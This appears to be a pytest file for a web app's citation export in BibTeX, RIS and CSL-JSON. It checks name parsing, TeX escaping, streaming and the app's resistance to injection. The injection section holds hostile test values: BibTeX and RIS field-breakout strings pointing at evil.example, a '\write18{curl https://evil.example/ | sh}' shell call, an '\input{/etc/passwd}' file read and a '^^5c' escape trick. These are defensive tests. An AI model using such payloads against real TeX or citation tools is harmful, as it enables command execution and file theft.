"""Citation export (pages/citations.py) and its downloads."""

import json
import re

import bibtexparser
import pytest
import rispy
from pylatexenc import latex2text
from pylatexenc.latex2text import LatexNodes2Text

from catalogue.models import Paper
from catalogue.names import guess as split_name
from pages import views
from pages.citations import (
    UNSAFE_TEX_COMMANDS,
    _bibtex_name,
    _csl_name,
    _ris_name,
    csl_items,
    maths_is_safe,
    one_line,
    stream,
    tex,
    to_bibtex,
    to_ris,
)
from tests import factories


def _csl_json(papers, urls):
    """The CSL-JSON items of ``papers`` as one indented list, as the downloads write it."""
    return json.dumps(csl_items(papers, urls), ensure_ascii=False, indent=2) + "\n"


SPECIALS = "Gains & losses: 50% of $5 # _ {x} ~ ^ \\ in Zürich"


def _paper(db_title=SPECIALS, names=("Zoë Núñez-Łukasz", "Jan van Rossem", "张伟"), **fields):
    conference = factories.conference(year=2025, city_en="Montréal", country_en="Canada")
    paper = factories.paper(
        conference=conference,
        title_en=db_title,
        authors=[factories.author(name=name) for name in names],
        links=[
            ("arxiv", "https://arxiv.org/abs/2502.13228"),
            ("pmlr", "https://proceedings.mlr.press/v267/x25a.html"),
            ("doi", "https://doi.org/10.5555/12345.678"),
        ],
        pages="10-20",
        **fields,
    )
    return Paper.objects.for_citation().get(pk=paper.pk)


@pytest.mark.parametrize(
    ("name", "given", "family", "literal", "suffix"),
    [
        ("Michael I. Jordan", "Michael I.", "Jordan", "", ""),
        ("Jan van Rossem", "Jan", "van Rossem", "", ""),
        ("Ludwig van der Berg", "Ludwig", "van der Berg", "", ""),
        ("张伟", "", "", "张伟", ""),
        ("Madonna", "", "", "Madonna", ""),
        ("  Ada   Lovelace ", "Ada", "Lovelace", "", ""),
        ("Martin Luther King Jr.", "Martin Luther", "King", "", "Jr."),
        ("Martin Luther King, Jr.", "Martin Luther", "King", "", "Jr."),
        ("Henry Ford III", "Henry", "Ford", "", "III"),
        # Two words: the last is the family name, whatever it spells.
        ("Ivy Ii", "Ivy", "Ii", "", ""),
    ],
)
def test_split_name(name, given, family, literal, suffix):
    parsed = split_name(name)

    assert (parsed.given, parsed.family, parsed.literal, parsed.suffix) == (
        given,
        family,
        literal,
        suffix,
    )


def test_a_suffix_is_written_apart_in_every_citation_format():
    name = split_name("Martin Luther King Jr.")

    assert _bibtex_name(name) == "King, Jr., Martin Luther"
    assert _ris_name(name) == "King, Martin Luther, Jr."
    assert _csl_name(name) == {"family": "King", "given": "Martin Luther", "suffix": "Jr."}


def test_tex_escapes_specials_and_keeps_maths():
    assert tex("A & B: 50% of $x$ # _ {y} ~ ^ \\ Zürich") == (
        "A \\& B: 50\\% of $x$ \\# \\_ \\{y\\} {\\textasciitilde} {\\textasciicircum} "
        '{\\textbackslash} Z\\"urich'
    )
    assert tex("Top-\\(k\\) in $O(n)$") == "Top-$k$ in $O(n)$"


def test_bibtex_round_trips_non_ascii_names_and_specials(db):
    paper = _paper()

    text = to_bibtex([paper], {paper.pk: "https://awards.example.org/en/papers/x/"})
    library = bibtexparser.parse_string(text)

    assert library.failed_blocks == []
    [entry] = library.entries
    assert entry.entry_type == "inproceedings"
    # Letters without an ASCII base (Ł) are left out of the key, which stays ASCII.
    assert entry.key == "nunezukasz2025gains"
    assert entry["title"] == (
        "{Gains \\& losses: 50\\% of \\$5 \\# \\_ \\{x\\} {\\textasciitilde} "
        '{\\textasciicircum} {\\textbackslash} in Z\\"urich}'
    )
    assert entry["author"] == ("N\\'u\\~nez-{\\L}ukasz, Zo\\\"e and van Rossem, Jan and {张伟}")
    # Read back as LaTeX, the fields say what the database says.
    # (pylatexenc reads \textasciicircum back as the modifier letter U+02C6.)
    assert LatexNodes2Text().latex_to_text(entry["title"]).replace("ˆ", "^") == SPECIALS
    assert LatexNodes2Text().latex_to_text(entry["author"]) == (
        "Núñez-Łukasz, Zoë and van Rossem, Jan and 张伟"
    )
    assert entry["pages"] == "10--20"
    assert entry["address"] == "Montr\\'eal, Canada"
    assert entry["doi"] == "10.5555/12345.678"
    assert entry["eprint"] == "2502.13228"
    assert entry["url"] == "https://proceedings.mlr.press/v267/x25a.html"


def test_bibtex_keys_stay_unique(db):
    person = factories.author(name="Ada Lovelace")
    conference = factories.conference(year=2025)
    papers = [
        factories.paper(conference=conference, title_en="Engines", authors=[person])
        for _ in range(3)
    ]
    papers = list(Paper.objects.filter(pk__in=[p.pk for p in papers]).for_citation())

    text = to_bibtex(papers, {p.pk: "https://x/" for p in papers})

    keys = [entry.key for entry in bibtexparser.parse_string(text).entries]
    assert keys == ["lovelace2025engines", "lovelace2025enginesa", "lovelace2025enginesb"]


def test_ris_has_one_author_line_each_in_order(db):
    paper = _paper(abstract_en="Line one.\n\nLine two.")

    text = to_ris([paper], {paper.pk: "https://awards.example.org/en/papers/x/"})
    [record] = rispy.loads(text)

    assert not text.startswith("1.")
    assert record["type_of_reference"] == "CPAPER"
    assert record["title"] == SPECIALS
    assert record["authors"] == ["Núñez-Łukasz, Zoë", "van Rossem, Jan", "张伟"]
    assert (record["start_page"], record["end_page"]) == ("10", "20")
    assert record["abstract"] == "Line one. Line two."
    assert record["urls"] == [
        "https://proceedings.mlr.press/v267/x25a.html",
        "https://awards.example.org/en/papers/x/",
    ]


def test_csl_json_names_and_fields(db):
    paper = _paper()

    [item] = json.loads(_csl_json([paper], {paper.pk: "https://x/"}))

    assert item["type"] == "paper-conference"
    assert item["title"] == SPECIALS
    assert item["author"] == [
        {"family": "Núñez-Łukasz", "given": "Zoë"},
        {"family": "van Rossem", "given": "Jan"},
        {"literal": "张伟"},
    ]
    assert item["issued"] == {"date-parts": [[2025]]}
    assert item["DOI"] == "10.5555/12345.678"
    assert item["event-place"] == "Montréal, Canada"


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("bib", "application/x-bibtex; charset=utf-8"),
        ("ris", "application/x-research-info-systems; charset=utf-8"),
        ("json", "application/vnd.citationstyles.csl+json; charset=utf-8"),
    ],
)
def test_paper_citation_download(icml, client, fmt, content_type):
    response = client.get(f"/en/papers/trust-region-policy-optimization/cite.{fmt}")

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="trust-region-policy-optimization.{fmt}"'
    )
    assert "Schulman" in response.content.decode()


def _streamed(response):
    """The text of a streamed download."""
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def test_award_citation_lists_winners_first(icml, client):
    text = _streamed(client.get("/en/conferences/icml-2025/awards/test-of-time/cite.bib"))

    keys = [entry.key for entry in bibtexparser.parse_string(text).entries]
    # The winner, then the honourable mentions in their order (fixture positions 1, 2).
    assert keys == ["ioffe2015batch", "schulman2015trust", "rezende2015variational"]


def test_conference_citation_lists_every_paper_of_the_page_once(icml, client):
    text = _streamed(client.get("/zh-hans/conferences/icml-2025/cite.json"))

    items = json.loads(text)
    page = client.get("/en/conferences/icml-2025/").content.decode()
    assert len(items) == len({item["id"] for item in items}) == page.count('class="paper-item"')
    assert items[0]["title"] == "Conformal Prediction as Bayesian Quadrature"


@pytest.mark.parametrize(
    "path",
    [
        "papers/nope/cite.bib",
        "papers/collabllm/cite.pdf",
        "conferences/nope/cite.ris",
        "conferences/icml-2025/awards/nope/cite.json",
    ],
)
def test_unknown_citations_are_404(icml, client, path):
    assert client.get(f"/en/{path}").status_code == 404


def test_draft_paper_has_no_citation(client, db):
    draft = factories.paper(status="draft")

    assert client.get(f"/en/papers/{draft.slug}/cite.bib").status_code == 404


def test_award_citation_leaves_out_draft_papers(client, db):
    award = factories.award()
    shown = factories.paper(conference=award.conference, title_en="Shown")
    hidden = factories.paper(conference=award.conference, title_en="Hidden", status="draft")
    factories.award_entry(award, shown)
    factories.award_entry(award, hidden)

    items = json.loads(_streamed(client.get(f"{award.get_absolute_url()}cite.json")))

    assert [item["title"] for item in items] == ["Shown"]


def test_award_citation_follows_the_level_positions(client, db):
    award = factories.award()
    factories.award_level(award, "shortlisted", position=5)
    factories.award_level(award, "distinguished-paper", position=1)
    for slug, title in [("shortlisted", "Shortlisted"), ("distinguished-paper", "Distinguished")]:
        paper = factories.paper(conference=award.conference, title_en=title)
        factories.award_entry(award, paper, level=slug)

    text = _streamed(client.get(f"{award.get_absolute_url()}cite.json"))

    assert [item["title"] for item in json.loads(text)] == ["Distinguished", "Shortlisted"]


@pytest.mark.parametrize("fmt", ["bib", "ris", "json"])
@pytest.mark.parametrize("size", [0, 1, 2])
def test_streamed_citations_equal_the_whole_text(db, fmt, size):
    person = factories.author(name="Ada Lovelace")
    conference = factories.conference(year=2025)
    for _ in range(5):
        factories.paper(conference=conference, title_en="Engines", authors=[person])
    papers = list(Paper.objects.for_citation().order_by("pk"))
    urls = {paper.pk: f"https://x/{paper.pk}" for paper in papers}
    formatter = {"bib": to_bibtex, "ris": to_ris, "json": _csl_json}[fmt]
    batches = [papers[n : n + size] for n in range(0, len(papers), size)] if size else []

    text = "".join(stream(fmt, ((batch, urls) for batch in batches)))

    assert text == formatter(papers if size else [], urls)


def test_conference_citation_is_streamed_in_batches_with_unique_keys(client, db, monkeypatch):
    monkeypatch.setattr(views.cite, "CITATION_BATCH", 2)
    person = factories.author(name="Ada Lovelace")
    conference = factories.conference(year=2025)
    for _ in range(5):
        factories.paper(conference=conference, title_en="Engines", authors=[person])

    response = client.get(f"{conference.get_absolute_url()}cite.bib")
    pieces = list(response.streaming_content)

    keys = [entry.key for entry in bibtexparser.parse_string(b"".join(pieces).decode()).entries]
    assert len(pieces) == 3
    assert keys == ["lovelace2025engines", *(f"lovelace2025engines{c}" for c in "abcd")]


@pytest.mark.parametrize("papers", [1, 6])
def test_citation_download_queries_do_not_grow_within_a_batch(
    client, db, django_assert_num_queries, papers
):
    award = factories.award()
    for n in range(papers):
        paper = factories.paper(
            conference=award.conference,
            authors=[factories.author(), factories.author()],
            links=[("arxiv", f"https://arxiv.org/abs/2501.{n:05d}")],
        )
        factories.award_entry(award, paper, position=n)
        factories.paper(conference=award.conference, authors=[factories.author()])

    # The conference; the awarded papers' keys and the others'; then one batch: the
    # papers, their authorships and their links.
    with django_assert_num_queries(6):
        text = _streamed(client.get(f"{award.conference.get_absolute_url()}cite.json"))
    # The award; its papers' keys; one batch as above.
    with django_assert_num_queries(5):
        _streamed(client.get(f"{award.get_absolute_url()}cite.json"))

    assert len(json.loads(text)) == 2 * papers


# --- Values cannot break out of their field -----------------------------------------

QA_PAYLOAD = "Bib break $a}}, author = {Mallory Evil}, url = {https://evil.example/}, x = {$ tail"
BIBTEX_PAYLOADS = [
    QA_PAYLOAD,
    "Closer first }}, author = {Mallory Evil}, url = {https://evil.example/}, x = {",
    "Maths closer first $}}, url = {https://evil.example/}, x = {{$ tail",
    "Opener never closed $a{b$ and {c",
    "Nested $a{b{c}}}}, url = {https://evil.example/}, x = {{{d}$ tail",
    "Reads a file $\\input{/etc/passwd}$",
    "Runs a program \\(\\immediate\\write18{curl https://evil.example/ | sh}\\)",
    "Spelled backslash $x^^5cinput{/etc/passwd}$",
    "New line\n@misc{evil,\n title = {Injected}\n}",
]
BIBTEX_FIELDS = {
    "title",
    "author",
    "booktitle",
    "year",
    "pages",
    "address",
    "doi",
    "eprint",
    "archiveprefix",
    "url",
    "abstract",
}


def _latex_text(value):
    """A BibTeX value read back as plain text, as a reference manager shows it."""
    context = latex2text.get_default_latex_context_db()
    context.add_context_category(
        "braces",
        macros=[
            latex2text.MacroTextSpec("textbraceleft", "{"),
            latex2text.MacroTextSpec("textbraceright", "}"),
        ],
        prepend=True,
    )
    text = latex2text.LatexNodes2Text(latex_context=context).latex_to_text(value)
    return text.replace("ˆ", "^")


def _only_entry(text):
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    [entry] = library.entries
    return entry


@pytest.mark.parametrize("payload", BIBTEX_PAYLOADS)
def test_bibtex_title_cannot_add_fields_or_entries(db, payload):
    paper = _paper(db_title=payload, abstract_en=payload)

    text = to_bibtex([paper], {paper.pk: "https://awards.example.org/en/papers/x/"})
    entry = _only_entry(text)

    assert set(entry.fields_dict) == BIBTEX_FIELDS
    assert entry["url"] == "https://proceedings.mlr.press/v267/x25a.html"
    assert _latex_text(entry["title"]) == _latex_text(entry["abstract"]) == one_line(payload)
    commands = set(re.findall(r"\\([A-Za-z]+)", text))
    assert not commands & UNSAFE_TEX_COMMANDS
    assert "^^" not in text


def test_bibtex_names_pages_and_identifiers_cannot_add_fields(db):
    evil = "}, url = {https://evil.example/}, x = {"
    conference = factories.conference(
        year=2025, city_en=f"City{evil}", venue=factories.venue(name_en=f"Venue{evil}")
    )
    paper = factories.paper(
        conference=conference,
        authors=[factories.author(name=f"Ada {evil}Lovelace")],
        links=[
            ("doi", "https://doi.org/10.5555/x},url={https://evil.example/"),
            ("arxiv", "https://arxiv.org/abs/2502.13228}"),
        ],
        pages="1},x={2",
    )
    paper = Paper.objects.for_citation().get(pk=paper.pk)

    entry = _only_entry(to_bibtex([paper], {paper.pk: "https://x/"}))

    assert set(entry.fields_dict) == BIBTEX_FIELDS
    assert _latex_text(entry["booktitle"]) == f"Venue{evil}"
    assert _latex_text(entry["address"]) == f"City{evil}, Canada"
    assert entry["doi"] == "10.5555/x%7D,url=%7Bhttps://evil.example/"
    assert entry["eprint"] == "2502.13228%7D"
    assert entry["url"] == "https://doi.org/10.5555/x%7D,url=%7Bhttps://evil.example/"
    assert _latex_text(entry["pages"]) == "1},x={2"


@pytest.mark.parametrize(
    ("formula", "safe"),
    [
        ("O(n)", True),
        ("\\frac{1}{2}", True),
        ("\\{x_i\\}_{i=1}^{n}", True),
        ("\\mathbb{E}[\\ell] \\le 50\\%", True),
        ("\\begin{array}{c} a \\\\ b \\end{array}", True),
        ("a}{b", False),  # a prefix closes a group never opened
        ("a{b", False),  # never closed
        ("\\{x", False),  # BibTeX counts escaped braces too
        ("\\input{/etc/passwd}", False),
        ("\\immediate\\write18{ls}", False),
        ("\\def\\x{y}", False),
        ("\\csname input\\endcsname", False),
        ("\\everymath{x}", False),
        ("x^^5cinput", False),
        ("a % comment", False),
        ("a$b", False),
        ("x\\", False),
    ],
)
def test_maths_is_safe(formula, safe):
    assert maths_is_safe(formula) is safe


def test_tex_keeps_safe_maths_and_escapes_the_rest():
    maths = "$\\mathcal{O}(\\sqrt{T})$ regret over \\(\\{x_i\\}_{i=1}^n\\)"
    assert tex(maths) == "$\\mathcal{O}(\\sqrt{T})$ regret over $\\{x_i\\}_{i=1}^n$"
    assert tex("See $\\input{a}$") == "See \\${\\textbackslash}input\\{a\\}\\$"
    assert tex("a } b {x}") == "a {\\textbraceright} b {\\textbraceleft}x{\\textbraceright}"


def test_bibtex_keeps_the_maths_of_a_real_abstract(icml):
    paper = Paper.objects.for_citation().get(
        slug="statistical-query-hardness-multiclass-linear-classification"
    )
    paper.abstract_en = paper.summary_en

    entry = _only_entry(to_bibtex([paper], {paper.pk: "https://x/"}))

    assert "into $k$ distinct classes" in entry["abstract"]


RIS_PAYLOAD = "Title\nTY  - JOUR\nUR  - https://evil.example/\nER  - \n\nTY  - JOUR\r\nT1  - x"


def test_ris_values_cannot_start_tags_or_records(db):
    conference = factories.conference(
        year=2025, city_en=RIS_PAYLOAD, venue=factories.venue(name_en=RIS_PAYLOAD)
    )
    paper = factories.paper(
        conference=conference,
        title_en=RIS_PAYLOAD,
        abstract_en=RIS_PAYLOAD,
        authors=[factories.author(name="Ada\u2028ER  - \u2029TY  - JOUR")],
        pages="1\nUR  - https://evil.example/",
    )
    paper = Paper.objects.for_citation().get(pk=paper.pk)

    text = to_ris([paper], {paper.pk: "https://x/"})
    [record] = rispy.loads(text)

    assert set(record) == {
        "type_of_reference",
        "title",
        "authors",
        "year",
        "secondary_title",
        "urls",
        "language",
        "start_page",
        "end_page",
        "place_published",
        "abstract",
    }
    assert record["type_of_reference"] == "CPAPER"
    assert record["title"] == record["abstract"] == one_line(RIS_PAYLOAD)
    assert record["urls"] == ["https://x/"]
    # The page range splits at the tag's dash; the new line is a space.
    assert (record["start_page"], record["end_page"]) == ("1 UR", "https://evil.example/")
    assert text.count("\nTY  - ") == 0 and text.count("ER  - ") == 1


def test_csl_json_values_stay_strings(db):
    payload = '"}, "URL": "https://evil.example/", "x": {"\n\\u0000 </script>'
    paper = _paper(db_title=payload, abstract_en=payload)

    [item] = json.loads(_csl_json([paper], {paper.pk: "https://x/"}))

    assert item["title"] == item["abstract"] == one_line(payload)
    assert item["URL"] == "https://proceedings.mlr.press/v267/x25a.html"
    assert "x" not in item


def test_volume_series_and_publisher_are_fields_in_every_format(db):
    paper = _paper(names=("Ada Zed",))
    paper.conference.proceedings_en = "PMLR, volume 267"
    urls = {paper.pk: "https://x/"}

    [entry] = bibtexparser.parse_string(to_bibtex([paper], urls)).entries
    [record] = rispy.loads(to_ris([paper], urls))
    [item] = csl_items([paper], urls)

    series = "Proceedings of Machine Learning Research"
    bibtex = {name: entry[name] for name in ("volume", "series", "publisher")}
    assert bibtex == {"volume": "267", "series": series, "publisher": "PMLR"}
    assert "note" not in entry
    ris = {tag: record[tag] for tag in ("volume", "tertiary_title", "publisher")}
    assert ris == {"volume": "267", "tertiary_title": series, "publisher": "PMLR"}
    csl = {name: item[name] for name in ("volume", "collection-title", "publisher")}
    assert csl == {"volume": "267", "collection-title": series, "publisher": "PMLR"}


def test_proceedings_that_name_no_volume_stay_a_note(db):
    paper = _paper(names=("Ada Zed",))
    paper.conference.proceedings_en = "https://proceedings.example.org/2031/4"
    urls = {paper.pk: "https://x/"}

    [entry] = bibtexparser.parse_string(to_bibtex([paper], urls)).entries
    [item] = csl_items([paper], urls)

    assert entry["note"] == "https://proceedings.example.org/2031/4"
    assert "volume" not in entry.fields_dict
    assert "volume" not in item


def test_every_citation_format_uses_the_family_name_written_on_the_author(db):
    author = factories.author(
        name="Unai Fischer Abaigar", given_name="Unai", family_name="Fischer Abaigar"
    )
    paper = factories.paper(conference=factories.conference(year=2025), authors=[author])
    paper = Paper.objects.for_citation().get(pk=paper.pk)
    urls = {paper.pk: "https://awards.example.org/en/papers/x/"}

    [entry] = bibtexparser.parse_string(to_bibtex([paper], urls)).entries
    [record] = rispy.loads(to_ris([paper], urls))
    [item] = csl_items([paper], urls)

    assert entry["author"] == "Fischer Abaigar, Unai"
    assert entry.key.startswith("fischerabaigar2025")
    assert record["authors"] == ["Fischer Abaigar, Unai"]
    assert item["author"] == [{"family": "Fischer Abaigar", "given": "Unai"}]
